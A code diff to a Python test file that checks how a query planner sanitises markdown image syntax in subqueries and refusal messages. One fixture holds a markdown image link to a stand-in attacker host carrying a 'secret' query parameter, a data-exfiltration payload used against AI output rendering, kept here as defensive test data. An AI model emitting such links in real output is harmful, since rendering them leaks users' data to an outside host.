@@ -171,7 +171,7 @@ async def test_a_plan_becomes_queries_with_collections_filters_weights_and_reaso
     )
     assert after.queries == (
         QUESTION,
-        SubQuery("clock maker", 1.0, r"the maker !\[x](http://evil.example/?q=secret)"),
+        SubQuery("clock maker", 1.0, "the maker ! [x](http://evil.example/?q=secret)"),
         SubQuery("letters", 0.5, "why", ("letters",), {"year": {"$gt": 1650}}),
     )
     assert after.warnings == ()
@@ -213,7 +213,7 @@ async def test_conditions_become_a_filter_with_values_of_the_fields_types(
 REFUSED: dict[str, tuple[dict[str, object], str]] = {
     "unknown collection": (query(collections=["clocks", "secrets"]), "no collection 'secrets' is searched."),
     "long name": (query(collections=[LONG_NAME]), f"no collection '{'n' * 64}' is searched."),
-    "image": (query(collections=[IMAGE]), f"no collection '!\\{IMAGE[1:]}' is searched."),
+    "image": (query(collections=[IMAGE]), f"no collection '! {IMAGE[1:]}' is searched."),
     "unknown field": (
         query(conditions=[condition("colour", "$eq", "red")]),
         f"There is no field 'colour' to filter by; there are: {ALL_FIELDS}.",
